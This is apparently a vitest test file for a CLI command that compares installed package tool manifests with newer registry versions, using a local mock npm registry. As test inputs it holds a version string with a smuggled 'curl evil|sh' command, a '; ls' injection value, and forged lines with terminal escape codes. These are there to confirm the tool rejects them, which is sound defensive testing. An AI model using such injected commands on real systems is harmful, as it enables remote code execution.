import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { copyFileSync, mkdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { gzipSync } from "node:zlib";
import { createManifest, rangeTakes } from "@toolcrib/contracts";
import { defineTool, type ExecutableTool, type JsonSchema } from "@toolcrib/core";
import { type ProgramEnd, sharedCommand, sharedFolder, temporaryFolder } from "@toolcrib/testing";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";

const bin = fileURLToPath(new URL("../../dist/bin.js", import.meta.url));
const command = sharedCommand(bin);
const name = "@toolcrib/tools-fs";

function readFile(properties: object, required: string[], description = "Reads."): ExecutableTool {
  const parameters: JsonSchema = { type: "object", properties, required, additionalProperties: false };
  return { ...defineTool({ name: "read_file", description, parameters, execute: () => "" }), origin: name };
}
const path = { type: "string", description: "Where." };
const limit = { type: "integer", minimum: 1, description: "Lines." };
/** By version: its tools, or none where it has no manifest. */
const versions: Readonly<Record<string, ExecutableTool[] | undefined>> = {
  "0.0.9": undefined,
  "0.1.0": [readFile({ path }, ["path"])],
  "0.1.1": [readFile({ path, limit }, ["path"], "Reads a file.")],
  "0.2.0": [readFile({ path, encoding: { type: "string" } }, ["path", "encoding"])],
};

/** A package as it is installed, or packed. */
function writePackage(folder: string, version: string, packageName = name): void {
  const tools = versions[version];
  const exports = { ".": "./index.js", ...(tools && { "./manifest.json": "./dist/manifest.json" }) };
  const files: Record<string, unknown> = {
    "package.json": { name: packageName, version, type: "module", exports },
    ...(tools && { "dist/manifest.json": createManifest(packageName, tools) }),
  };
  for (const [file, content] of Object.entries(files)) put(join(folder, file), JSON.stringify(content));
}

function put(file: string, text: string): void {
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
}

const packed = sharedFolder("packed");
const home = sharedFolder("home");
let registry: Server;
let address = "";

/** The tarballs, written by npm, and a registry that has them. */
beforeAll(async () => {
  const folders = Object.keys(versions).map((version) => {
    const folder = join(packed, `source-${version}`);
    writePackage(folder, version);
    return folder;
  });
  const args = ["pack", ...folders, "--pack-destination", packed, "--loglevel=silent", "--ignore-scripts"];
  execFileSync("npm", args, { cwd: packed, shell: process.platform === "win32" });
  registry = createServer((request, response) => {
    const url = decodeURIComponent(request.url ?? "");
    const tarball = /^\/(toolcrib-tools-fs-[\d.]+\.tgz)$/.exec(url)?.[1];
    if (tarball) return void response.end(readFileSync(join(packed, tarball)));
    if (url === `/${name}` || url === "/@toolcrib/moved") return void response.end(JSON.stringify(packument()));
    response.writeHead(url === "/@toolcrib/private" ? 401 : 404).end("{}");
  });
  await new Promise<void>((listening) => registry.listen(0, "127.0.0.1", listening));
  address = `http://127.0.0.1:${(registry.address() as AddressInfo).port}/`;
});
afterAll(() => {
  registry.closeAllConnections();
  registry.close();
});

function packument(): object {
  const published = Object.keys(versions).map((version) => {
    const file = `toolcrib-tools-fs-${version}.tgz`;
    const shasum = createHash("sha1")
      .update(readFileSync(join(packed, file)))
      .digest("hex");
    return [version, { name, version, dist: { tarball: `${address}${file}`, shasum } }] as const;
  });
  const tags = { latest: "0.2.0", next: "0.1.1", old: "0.0.9", damaged: "0.3.0" };
  const dist = { tarball: `${address}toolcrib-tools-fs-0.2.0.tgz`, shasum: "0".repeat(40) };
  const damaged = { "0.3.0": { name, version: "0.3.0", dist } };
  return { name, "dist-tags": tags, versions: { ...Object.fromEntries(published), ...damaged } };
}

let project = "";
const installed = (...rest: string[]): string => join(project, "node_modules", ...rest);
beforeEach(() => {
  project = temporaryFolder("project");
  put(join(project, ".npmrc"), `registry=${address}\n`);
  put(join(project, "package.json"), JSON.stringify({ dependencies: { [name]: "^0.1.0" } }));
  writePackage(installed(name), "0.1.0");
});

function doctor(...args: string[]): Promise<ProgramEnd> {
  return command(["contracts", ...args], { cwd: project, env: { HOME: home, USERPROFILE: home } });
}

describe("contracts", () => {
  test("says what the newest version breaks, and that the caret range does not take it", async () => {
    const { stdout, stderr, code } = await doctor();
    expect({ stdout, stderr, code }).toEqual({
      code: 0,
      stderr: "",
      stdout: `What an upgrade of the installed packages would change
• @toolcrib/tools-fs 0.1.0 -> 0.2.0
    breaking: read_file needs a new argument "encoding". Callers that leave it out get an error.
    tokens of each request with all its tools, estimated: 58 before, 68 after
    what to do: after you have dealt with the breaking changes: package.json has ^0.1.0, which does not accept it: npm install @toolcrib/tools-fs@0.2.0
`,
    });
  });

  test("--to takes a version or a tag", async () => {
    const expected = [
      "• @toolcrib/tools-fs 0.1.0 -> 0.1.1",
      '    new: read_file takes a new optional argument "limit".',
      "    words: read_file is described differently: the tool.",
      "    tokens of each request with all its tools, estimated: 58 before, 76 after",
      "    what to do: package.json has ^0.1.0, which accepts it: npm install @toolcrib/tools-fs@0.1.1",
    ];
    for (const to of ["next", "0.1.1"]) {
      expect((await doctor("--to", to)).stdout.split("\n").slice(1, -1)).toEqual(expected);
    }
    expect((await doctor("--to", "0.1.0")).stdout).toContain("✓ @toolcrib/tools-fs 0.1.0\n");
  });

  test("works from a directory inside the project", async () => {
    mkdirSync(join(project, "src/deep"), { recursive: true });
    const end = await command(["contracts"], { cwd: join(project, "src/deep"), env: { HOME: home } });
    expect(end.stdout).toContain("0.1.0 -> 0.2.0");
  });

  test("--json gives the same as data", async () => {
    const { stdout, code } = await doctor("--json", "--to", "next");
    expect(code).toBe(0);
    const { ok, contracts } = JSON.parse(stdout);
    expect(ok).toBe(true);
    expect(contracts.data).toMatchObject([
      {
        package: name,
        installed: "0.1.0",
        available: "0.1.1",
        range: "^0.1.0",
        rangeTakesIt: true,
        tokens: { before: 58, after: 76 },
        changes: [
          { tool: "read_file", kind: "argument-added", severity: "addition", path: "limit" },
          { tool: "read_file", kind: "words", severity: "wording" },
        ],
      },
    ]);
  });

  test("--tarballs compares without a registry, with a folder or one file", async () => {
    put(join(project, ".npmrc"), "registry=http://127.0.0.1:9/\n");
    const file = join(packed, "toolcrib-tools-fs-0.2.0.tgz");
    expect((await doctor("--tarballs", file)).stdout).toContain("0.1.0 -> 0.2.0\n    breaking: read_file needs");
    const all = await doctor("--tarballs", packed);
    expect(all.stdout).toContain("nothing to compare with: there are several: toolcrib-tools-fs-0.0.9.tgz, ");
    expect(all.code).toBe(1);
  });

  test("says so where there is no registry, no such version and no such package", async () => {
    const missing = await doctor("--to", "7.0.0");
    expect(missing.stdout).toContain(
      "✗ @toolcrib/tools-fs 0.1.0: nothing to compare with: the registry has no such version; npm view NAME versions lists them",
    );
    expect(missing.code).toBe(1);
    writePackage(installed("@toolcrib/other"), "0.1.0", "@toolcrib/other");
    expect((await doctor()).stdout).toContain(
      "✗ @toolcrib/other 0.1.0: nothing to compare with: the registry has no such version; npm view NAME versions lists them",
    );
    put(join(project, ".npmrc"), "registry=http://127.0.0.1:9/\n");
    const offline = await doctor();
    expect(offline.stdout).toContain(
      "nothing to compare with: the registry cannot be reached (ECONNREFUSED); --tarballs PATH works without it",
    );
    expect(offline.code).toBe(1);
  });

  test("says so where the registry asks for a login, a tarball is damaged, and there is no npm", async () => {
    expect((await doctor("--to", "damaged")).stdout).toContain(
      "nothing to compare with: npm pack failed (EINTEGRITY): ",
    );
    writePackage(installed("@toolcrib/private"), "0.1.0", "@toolcrib/private");
    expect((await doctor()).stdout).toContain(
      "✗ @toolcrib/private 0.1.0: nothing to compare with: the registry refuses it (E401): log in with npm login",
    );
    const none = await command(["contracts"], { cwd: project, env: { HOME: home, PATH: home } });
    expect(none.stdout).toContain(
      "nothing to compare with: npm was not found on PATH; --tarballs PATH works without it",
    );
  });

  test("says which version has no manifest", async () => {
    writePackage(installed(name), "0.0.9");
    const older = await doctor();
    expect(older.stdout).toContain(
      "✗ @toolcrib/tools-fs 0.0.9 -> 0.2.0: 0.0.9 publishes no manifest of its tools, so they cannot be compared; read its CHANGELOG.md",
    );
    rmSync(installed(name), { recursive: true });
    writePackage(installed(name), "0.1.0");
    expect((await doctor("--to", "old")).stdout).toContain(
      "0.1.0 -> 0.0.9: 0.0.9 publishes no manifest of its tools, so they cannot be compared; read its CHANGELOG.md",
    );
  });

  test.each([
    ["package.json", undefined, "package.json is missing"],
    ["package.json", "{", "package.json is not valid JSON"],
    ["package.json", "[]", "package.json names no package and version"],
    ["dist/manifest.json", undefined, "dist/manifest.json is missing"],
    ["dist/manifest.json", "", "dist/manifest.json is not valid JSON"],
    ["dist/manifest.json", "{}", "not a manifest of tools: its manifestVersion must be 1"],
  ])("names what is wrong in a package that is incomplete: %s with %j", async (file, content, problem) => {
    if (content === undefined) rmSync(installed(name, file));
    else put(installed(name, file), content);
    const { stdout, code } = await doctor();
    expect(stdout).toContain(`✗ @toolcrib/tools-fs: node_modules/@toolcrib/tools-fs is incomplete: ${problem}`);
    expect(stdout).toContain("Install again: npm install");
    expect(code).toBe(1);
  });

  test("says so where nothing is installed, and where a flag makes no sense", async () => {
    rmSync(installed(), { recursive: true });
    const none = await doctor();
    expect(none.stdout).toContain("✗ No toolcrib package is installed here");
    expect(none.code).toBe(1);
    writePackage(installed(name), "0.1.0");
    const wrong = await doctor("--to", "^0.1.0; ls");
    expect(wrong.stderr).toContain("--to takes a version or a tag");
    expect(wrong.code).toBe(2);
    expect((await doctor("--tarballs", "none")).stderr).toContain("--tarballs: there is no none");
    put(join(project, "not.tgz"), "text");
    expect((await doctor("--tarballs", "not.tgz")).stderr).toContain(
      "--tarballs: not.tgz is not a tarball made by npm pack",
    );
  });

  test.each([
    "9.9.9 https://evil/x.tgz; curl evil|sh #",
    "9.9.9\n✓ all is well",
    "9.9.9\u001b[31m",
    "9.9",
    "latest",
    "",
  ])("takes no version that is none, installed or packed: %j", async (version) => {
    const tarball = join(project, "packed.tgz");
    writeFileSync(tarball, tar({ "package.json": JSON.stringify({ name, version }) }));
    const packed = await doctor("--tarballs", tarball);
    expect(packed.stderr).toContain("--tarballs: packed.tgz: package.json has no version such as 0.1.0");
    put(installed(name, "package.json"), JSON.stringify({ name, version }));
    const { stdout, code } = await doctor();
    expect(stdout.split("\n").slice(1)).toEqual([
      "✗ @toolcrib/tools-fs: node_modules/@toolcrib/tools-fs is incomplete: package.json has no version such as 0.1.0. Install again: npm install",
      "",
    ]);
    expect(code).toBe(1);
  });

  test("what a package and package.json say stays on its line and has no colour", async () => {
    const forged = "x\n✓ all is well\r\u2028\u001b[31mred\u0085";
    const env = { HOME: home, USERPROFILE: home, FORCE_COLOR: "1" };
    const end = (): Promise<ProgramEnd> => command(["contracts"], { cwd: project, env });
    put(join(project, "package.json"), JSON.stringify({ dependencies: { [name]: `^0.1.0${forged}` } }));
    expect((await end()).stdout).toContain("package.json has ^0.1.0x ✓ all is well [31mred, a range for npm to read");
    const { manifestVersion, tools } = createManifest(name, [readFile({ path }, ["path"])]);
    const forgedTools = tools.map((tool) => ({
      ...tool,
      origin: forged,
      traits: { ...tool.traits, [forged]: true },
      parameters: { ...tool.parameters, properties: { path, [forged]: {} } },
    }));
    const manifest = { manifestVersion, package: name, tools: forgedTools };
    put(installed(name, "dist/manifest.json"), JSON.stringify(manifest));
    const compared = (await end()).stdout;
    expect(compared).toContain('no longer takes the argument "x ✓ all is well');
    put(
      installed(name, "package.json"),
      JSON.stringify({ name, version: "0.1.0", exports: { "./manifest.json": forged } }),
    );
    const damaged = (await end()).stdout;
    expect(damaged).toContain("is incomplete: x ✓ all is well");
    for (const said of [compared, damaged]) {
      expect(said.split("\n✓")).toHaveLength(1);
      expect(said).not.toMatch(/\u001b\[31mred|[\r\u2028\u0085]/);
    }
  });

  test("--to takes nothing that npm reads as a file or a folder", async () => {
    put(join(project, "package.json"), JSON.stringify({ name: "mine", version: "1.0.0" }));
    for (const to of [".", "..", ".hidden", "-x", "x.tgz", "x.TAR", "x.tar.gz", "x.tar-gz"]) {
      const { stderr, code } = await doctor("--to", to);
      expect({ to, stderr, code }).toMatchObject({
        stderr: expect.stringContaining("--to takes a version or a tag"),
        code: 2,
      });
    }
  });

  test("compares with no other package than the one it asked for", async () => {
    writePackage(installed("@toolcrib/moved"), "0.1.0", "@toolcrib/moved");
    const { stdout, code } = await doctor();
    expect(stdout).toContain(
      "✗ @toolcrib/moved 0.1.0: nothing to compare with: npm packed another package for this name",
    );
    expect(code).toBe(1);
  });

  test("reads the workspace's own ranges where its packages are in the node_modules of the root", async () => {
    const app = join(project, "packages/app");
    const other = "@toolcrib/other";
    put(
      join(project, "package.json"),
      JSON.stringify({ workspaces: ["packages/*"], devDependencies: { [other]: "1.0.0" } }),
    );
    put(join(app, "package.json"), JSON.stringify({ dependencies: { [name]: "^0.1.0" } }));
    put(join(app, "src/package.json"), JSON.stringify({ type: "module" }));
    for (const cwd of [app, join(app, "src")]) {
      const { stdout } = await command(["contracts"], { cwd, env: { HOME: home } });
      expect(stdout).toContain(
        "package.json has ^0.1.0, which does not accept it: npm install @toolcrib/tools-fs@0.2.0",
      );
    }
    // The nearest wins, as for Node.js, and what is only further up is there too.
    writePackage(join(app, "node_modules", name), "0.2.0");
    writePackage(installed(other), "0.1.0", other);
    const { stdout } = await command(["contracts"], { cwd: app, env: { HOME: home } });
    expect(stdout).toContain("✓ @toolcrib/tools-fs 0.2.0\n");
    expect(stdout).toContain("✗ @toolcrib/other 0.1.0: nothing to compare with");
    expect(stdout).not.toContain("tools-fs 0.1.0");
  });

  test("a file that is none of npm's ends nothing but itself in a folder of tarballs", async () => {
    const folder = join(project, "tarballs");
    mkdirSync(join(folder, "d.tgz"), { recursive: true });
    copyFileSync(join(packed, "toolcrib-tools-fs-0.2.0.tgz"), join(folder, "good.tgz"));
    put(join(folder, "foreign.tgz"), "text");
    writeFileSync(join(folder, "empty.tgz"), tar({ "readme.md": "" }));
    const { stdout, code } = await doctor("--tarballs", folder);
    expect(stdout).toContain("0.1.0 -> 0.2.0\n    breaking: read_file needs");
    for (const line of [
      "• left out: d.tgz is not a file",
      "• left out: foreign.tgz is not a tarball made by npm pack",
      "• left out: empty.tgz: package.json is missing",
    ]) {
      expect(stdout).toContain(`${line}\n`);
    }
    expect(code).toBe(0);
    rmSync(join(folder, "good.tgz"));
    const none = await doctor("--tarballs", folder);
    expect(none.stdout).toContain("nothing to compare with: none of the tarballs that can be read contains it");
    expect(none.code).toBe(1);
    expect((await doctor("--tarballs", join(folder, "empty.tgz"))).stderr).toContain(
      "--tarballs: empty.tgz: package.json is missing",
    );
  });

  test("reads a package.json with a byte order mark", async () => {
    put(join(project, "package.json"), `\uFEFF${JSON.stringify({ dependencies: { [name]: "^0.1.0" } })}`);
    put(installed(name, "package.json"), `\uFEFF${readFileSync(installed(name, "package.json"), "utf8")}`);
    expect((await doctor()).stdout).toContain("package.json has ^0.1.0, which does not accept it");
  });

  test("compares without the ranges where package.json cannot be read, and says so", async () => {
    const file = join(project, "package.json");
    put(file, "{");
    const damaged = await doctor();
    expect(damaged.stdout).toContain(`• the ranges are not known: ${realpathSync(file)} is not valid JSON\n`);
    rmSync(file);
    mkdirSync(file);
    const { stdout, code } = await doctor();
    expect(stdout).toContain(`• the ranges are not known: ${realpathSync(file)} is not a file\n`);
    expect(stdout).toContain("0.1.0 -> 0.2.0\n    breaking: read_file needs");
    expect(stdout).toContain("what to do: correct package.json and run this again");
    expect(stdout).not.toContain("another package depends on it");
    expect(code).toBe(0);
    rmSync(installed(name, "package.json"));
    mkdirSync(installed(name, "package.json"));
    expect((await doctor()).stdout).toContain("is incomplete: package.json is not a file. Install again");
  });
});

/** A tarball as npm packs one, also of what npm would refuse to pack. */
function tar(files: Readonly<Record<string, string>>): Buffer {
  const blocks = Object.entries(files).flatMap(([file, text]) => {
    const [header, body] = [Buffer.alloc(512), Buffer.alloc(Math.ceil(Buffer.byteLength(text) / 512) * 512)];
    header.write(`package/${file}`);
    header.write(Buffer.byteLength(text).toString(8), 124);
    header.write("0", 156);
    body.write(text);
    return [header, body];
  });
  return gzipSync(Buffer.concat([...blocks, Buffer.alloc(1024)]));
}

test.each([
  ["^0.1.0", "0.1.5", true],
  ["^0.1.0", "0.2.0", false],
  ["^0.0.3", "0.0.4", false],
  ["^1.2.0", "1.9.0", true],
  ["^1.2.0", "2.0.0", false],
  ["^1.2.0", "1.1.9", false],
  ["^1.2.0", "1.2.0", true],
  ["^1.2.0", "1.3.0-next.1", false],
  ["~1.2.3", "1.2.9", true],
  ["~1.2.3", "1.3.0", false],
  ["1.2.3", "1.2.4", false],
  ["1.2.3-next.1", "1.2.3-next.1", true],
  ["*", "9.0.0", true],
  ["latest", "1.0.0-next.1", false],
  [">=1 <3", "2.0.0", undefined],
  ["workspace:^", "2.0.0", undefined],
])("the range %s takes %s: %s", (range, version, expected) => {
  expect(rangeTakes(range, version)).toBe(expected);
});
